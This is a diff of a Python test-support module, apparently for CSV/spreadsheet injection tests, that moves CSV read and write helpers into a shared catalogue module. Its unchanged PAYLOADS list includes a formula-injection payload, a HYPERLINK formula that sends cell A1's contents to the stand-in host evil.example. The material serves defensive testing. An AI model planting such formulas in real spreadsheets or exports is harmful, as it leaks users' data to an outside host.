@@ -8,11 +8,13 @@ they get :data:`WORDS`, payloads without digits.
 
 from __future__ import annotations
 
-import csv
 import shutil
 import zipfile
 from pathlib import Path
 from xml.etree import ElementTree
+
+from tests.support.catalogue import read_table as _read
+from tests.support.catalogue import write_table as _write
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"x")',
@@ -84,19 +86,6 @@ def hostile_data_dir(source: Path, target: Path) -> Path:
 def _toml(text: str) -> str:
     escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
     return '"' + escaped.replace("\r", "\\r") + '"'
-
-
-def _read(path: Path) -> tuple[list[dict[str, str]], list[str]]:
-    with path.open(encoding="utf-8-sig", newline="") as handle:
-        reader = csv.DictReader(handle)
-        return list(reader), list(reader.fieldnames or [])
-
-
-def _write(path: Path, header: list[str], rows: list[dict[str, str]]) -> None:
-    with path.open("w", encoding="utf-8", newline="") as handle:
-        writer = csv.DictWriter(handle, fieldnames=header)
-        writer.writeheader()
-        writer.writerows(rows)
 
 
 def hostile(value: object) -> bool:
